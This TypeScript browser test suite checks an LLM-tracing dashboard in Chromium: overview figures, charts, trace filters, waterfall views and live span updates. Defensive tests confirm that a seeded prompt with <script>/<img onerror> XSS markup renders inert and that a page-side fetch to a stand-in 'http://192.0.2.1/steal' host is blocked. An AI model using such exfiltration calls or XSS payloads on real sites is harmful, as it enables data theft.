/**
 * The dashboard in a real browser (Debian chromium driven by playwright-core), served by the
 * built `llmtrace dashboard` command as a child process over a store the FileStore wrote from a
 * seeded run: the overview's numbers equal the query layer's, the charts render with their axes,
 * filters narrow the trace list, a trace opens as its waterfall with every span in order, an XSS
 * payload in a prompt stays inert, a span a running program writes appears live, and no request
 * goes anywhere but the dashboard's own loopback origin. With LLMTRACE_SCREENSHOTS=1 it also
 * writes the README's screenshots to docs/images/.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { spawn, execFileSync, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { assembleTrace, groupStats, summariseTraces } from '../../lib/query/index.js';
import type { SpanData } from '../../lib/span.js';
import { buildForChildren, removeBuild, REPO_ROOT } from '../helpers/build-for-children.js';
import { seedStore, XSS_PROMPT } from '../helpers/dashboard-seed.js';
import { removeTempDirs, tempDir } from '../helpers/temp-dir.js';

const CHROMIUM = '/usr/bin/chromium';
const ARGS = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];
const SCREENSHOTS = process.env.LLMTRACE_SCREENSHOTS === '1';

let build: string;
let dir: string;
let written: SpanData[];
let server: ChildProcess;
let origin: string;
let browser: Browser;
let page: Page;
const requested: string[] = [];
const dialogs: string[] = [];

function waitForUrl(child: ChildProcess): Promise<string> {
  return new Promise((resolve, reject) => {
    let out = '';
    child.stdout!.on('data', (chunk: Buffer) => {
      out += chunk.toString();
      const match = /(http:\/\/127\.0\.0\.1:\d+\/)/.exec(out);
      if (match) resolve(match[1]!);
    });
    child.once('exit', (code) => reject(new Error(`dashboard exited with ${code}: ${out}`)));
  });
}

beforeAll(async () => {
  build = buildForChildren(['cli/main.js', 'dashboard/server/index.js', 'index.js']);
  execFileSync(process.execPath, [join(REPO_ROOT, 'scripts', 'build-dashboard-ui.mjs'), join(build, 'dashboard', 'ui')], { cwd: REPO_ROOT });
  dir = tempDir('llmtrace-browser-');
  written = await seedStore(dir, { traces: 300 });
  server = spawn(process.execPath, [join(build, 'cli', 'main.js'), 'dashboard', '--dir', dir, '--port', '0'], { stdio: ['ignore', 'pipe', 'pipe'] });
  origin = await waitForUrl(server);
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS });
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  // Every request the page makes is recorded; one to anywhere but the dashboard is aborted.
  await context.route('**/*', (route) => {
    const url = route.request().url();
    requested.push(url);
    return url.startsWith(origin) ? route.continue() : route.abort();
  });
  page = await context.newPage();
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  server?.kill('SIGINT');
  removeBuild(build);
  removeTempDirs();
});

const MODEL_KINDS = new Set(['llm', 'tool']);

describe('the dashboard in chromium', () => {
  it('shows the overview with the query layer numbers and charts with axes', async () => {
    await page.goto(origin);
    await page.locator('[data-tile="requests"] .tile-value').waitFor();
    const rows = groupStats(written.filter((s) => MODEL_KINDS.has(s.kind)), 'model');
    const calls = rows.reduce((s, r) => s + r.calls, 0);
    const failures = rows.reduce((s, r) => s + r.failures, 0);
    expect(await page.locator('[data-tile="requests"] .tile-value').textContent()).toBe(calls.toLocaleString('en-US'));
    expect(await page.locator('[data-tile="error-rate"] .tile-value').textContent()).toBe(`${((failures / calls) * 100).toFixed(1)}%`);
    const charts = page.locator('.chart');
    expect(await charts.count()).toBe(3);
    for (let i = 0; i < 3; i++) {
      const chart = charts.nth(i);
      const axes = chart.locator('[role="img"]');
      expect(await axes.getAttribute('data-x-axis')).toBeTruthy();
      expect(await axes.getAttribute('data-y-axis')).toBeTruthy();
      const painted = await chart.locator('canvas').evaluate((element) => {
        // Runs in the page; typed structurally (the tests compile without the DOM library).
        const canvas = element as unknown as { width: number; height: number; getContext(kind: '2d'): { getImageData(x: number, y: number, w: number, h: number): { data: Uint8ClampedArray } } };
        const data = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data;
        let n = 0;
        for (let p = 3; p < data.length; p += 4) if (data[p]! > 0) n++;
        return { width: canvas.width, height: canvas.height, n };
      });
      expect(painted.width).toBeGreaterThan(100);
      expect(painted.n).toBeGreaterThan(500);
    }
    // The per-model table holds the query layer's rows.
    const tableModels = await page.locator('table.grid tbody tr td:first-child').allTextContents();
    expect(tableModels).toEqual(rows.map((r) => r.key));
    if (SCREENSHOTS) {
      mkdirSync(join(REPO_ROOT, 'docs', 'images'), { recursive: true });
      await page.screenshot({ path: join(REPO_ROOT, 'docs', 'images', 'dashboard-overview.png'), fullPage: true });
    }
  });

  it('narrows the trace list with filters and pages through it', async () => {
    const all = summariseTraces(written);
    await page.goto(`${origin}#/traces`);
    await page.locator('[data-total]').waitFor();
    expect(await page.locator('[data-total]').getAttribute('data-total')).toBe(String(all.length));
    expect(await page.locator('table.grid tbody tr').count()).toBe(100);
    await page.getByLabel('Status').selectOption('error');
    const failed = all.filter((t) => t.errors > 0).length;
    await page.locator(`[data-total="${failed}"]`).waitFor();
    await page.getByLabel('Model').selectOption('claude-haiku-4-5');
    const both = all.filter((t) => t.errors > 0 && t.models.includes('claude-haiku-4-5')).length;
    await page.locator(`[data-total="${both}"]`).waitFor();
    expect(await page.locator('table.grid tbody tr').count()).toBe(Math.min(100, both));
    // Sorting by duration by keyboard: focus the header button and press Enter.
    await page.getByRole('button', { name: /Duration/ }).focus();
    await page.keyboard.press('Enter');
    // The list starts sorted by start time (descending): wait for the sort to move to Duration.
    await page.locator('th[aria-sort="descending"]', { hasText: 'Duration' }).waitFor();
    expect(await page.locator('th[aria-sort="descending"]').count()).toBe(1);
    expect(await page.locator('th[aria-sort="descending"]').textContent()).toContain('Duration');
  });

  it('opens a trace as its waterfall with every span in order', async () => {
    await page.goto(`${origin}#/traces`);
    await page.locator('table.grid tbody tr').first().waitFor();
    const first = summariseTraces(written)[0]!;
    await page.locator('table.grid tbody tr').first().click();
    await page.locator('.wf-row').first().waitFor();
    const ids = await page.locator('.wf-row').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-span-id')));
    const tree = assembleTrace(written.filter((s) => s.traceId === first.traceId));
    expect(ids).toEqual(tree.nodes.map((n) => n.span.id));
    if (SCREENSHOTS) await page.screenshot({ path: join(REPO_ROOT, 'docs', 'images', 'dashboard-waterfall.png'), fullPage: false });
  });

  it('shows a prompt carrying <script> and <img onerror> as inert text', async () => {
    const span = written.find((s) => String(s.attributes['gen_ai.input.messages'] ?? '').includes('<script>'))!;
    await page.goto(`${origin}#/trace/${span.traceId}`);
    await page.locator(`.wf-row[data-span-id="${span.id}"]`).click();
    const content = page.locator('.span-detail pre.content').first();
    await content.waitFor();
    expect(await content.textContent()).toBe(XSS_PROMPT);
    expect(await page.locator('.span-detail img, .span-detail script').count()).toBe(0);
    expect(await page.evaluate(() => (globalThis as unknown as { __xss?: number }).__xss)).toBeUndefined();
    expect(dialogs).toEqual([]);
  });

  it('ranks the models and compares two with a verdict', async () => {
    await page.goto(`${origin}#/models?a=gpt-4o-mini&b=claude-haiku-4-5`);
    await page.locator('.verdict').waitFor();
    const models = await page.locator('table.grid').first().locator('tbody tr td:nth-child(2)').allTextContents();
    expect(models.sort()).toEqual(['claude-haiku-4-5', 'gpt-4o-mini']);
    const calls = written.filter((s) => s.kind === 'llm' && s.attributes['gen_ai.response.model'] === 'gpt-4o-mini').length;
    expect(await page.locator('table.compare tbody tr').first().locator('td').first().textContent()).toBe(calls.toLocaleString('en-US'));
  });

  it('shows a span written by a running program without reloading', async () => {
    await page.goto(`${origin}#/live`);
    await page.locator('[data-connected="true"]').waitFor();
    const program = `
      import { openFileStore, Span } from ${JSON.stringify(join(build, 'index.js'))};
      const store = await openFileStore({ dir: ${JSON.stringify(dir)}, flushOnExit: false });
      const span = new Span('live_probe', 'llm', undefined, { 'gen_ai.request.model': 'gpt-4o-mini' }, 'ab'.repeat(16), 'cd'.repeat(8), true);
      span.finish();
      await store.export([span]);
      await store.shutdown();
    `;
    const file = join(dir, '..', `live-writer-${process.pid}.mjs`);
    writeFileSync(file, program);
    execFileSync(process.execPath, [file], { cwd: REPO_ROOT });
    const row = page.locator(`tbody.finished tr[data-span-id="${'cd'.repeat(8)}"]`);
    await row.waitFor({ timeout: 10_000 });
    expect(await row.textContent()).toContain('live_probe');
  });

  it('never makes a request outside the dashboard origin, even when a page script tries', async () => {
    const blocked = await page.evaluate(async () => {
      try {
        await fetch('http://192.0.2.1/steal');
        return false;
      } catch {
        return true;
      }
    });
    expect(blocked).toBe(true);
    expect(requested.length).toBeGreaterThan(5);
    expect(requested.filter((url) => !url.startsWith(origin))).toEqual([]);
    expect(existsSync(join(build, 'dashboard', 'ui', 'app.js'))).toBe(true);
  });
});
